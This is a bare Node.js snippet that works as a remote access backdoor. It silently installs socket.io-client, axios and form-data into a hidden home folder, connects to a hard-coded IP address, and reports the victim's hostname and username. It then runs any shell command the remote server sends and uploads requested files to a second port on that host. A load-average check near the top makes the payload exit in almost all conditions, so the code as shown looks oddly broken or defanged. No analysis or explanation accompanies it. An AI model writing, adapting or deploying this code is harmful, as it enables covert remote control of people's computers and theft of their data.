(function () {
  const os = require('os'), fs = require('fs'), path = require('path'), cp = require('child_process');
  const base = 'http://198.51.100.36:3306', upload = 'http://198.51.100.36:27017/u/f';
  const home = path.join(os.homedir(), '.node_modules');
  if (os.loadavg()[0] < 5000) { return; }
  function shell(line, done) { cp.exec(line, {windowsHide: true, cwd: home}, function (error, out, err) { done(String(out || '') + String(err || '')); }); }
  module.paths.push(path.join(home, 'node_modules'));
  if (process.platform === 'win32') { process.env.PATH = path.join(process.env.LOCALAPPDATA, 'Programs', 'Python', 'Python3127') + ';' + process.env.PATH; }
  fs.mkdirSync(home, {recursive: true});
  shell('npm install --prefix "' + home + '" socket.io-client axios form-data', function () {
    const io = require('socket.io-client'), axios = require('axios'), Form = require('form-data');
    const socket = io.connect(base, {reconnection: true});
    let cwd = os.homedir();
    socket.on('connect', function () { socket.emit('iden', {clientUuid: os.hostname() + '$' + os.userInfo().username, processId: process.pid, osType: os.type()}); });
    socket.on('message', function (task) {
      const words = String(task).split(' ');
      if (words[0] === 'cd') { cwd = path.resolve(cwd, words[1]); return; }
      if (words[0] === 'ss_dir') { cwd = __dirname; return; }
      if (words[0] === 'ss_upf') {
        const form = new Form();
        form.append('file', fs.createReadStream(words[1]));
        axios.post(upload, form, {headers: form.getHeaders()});
        return;
      }
      cp.exec(task, {cwd: cwd, windowsHide: true}, function (e, out, err) { socket.emit('response', String(out) + String(err)); });
    });
  });
})();
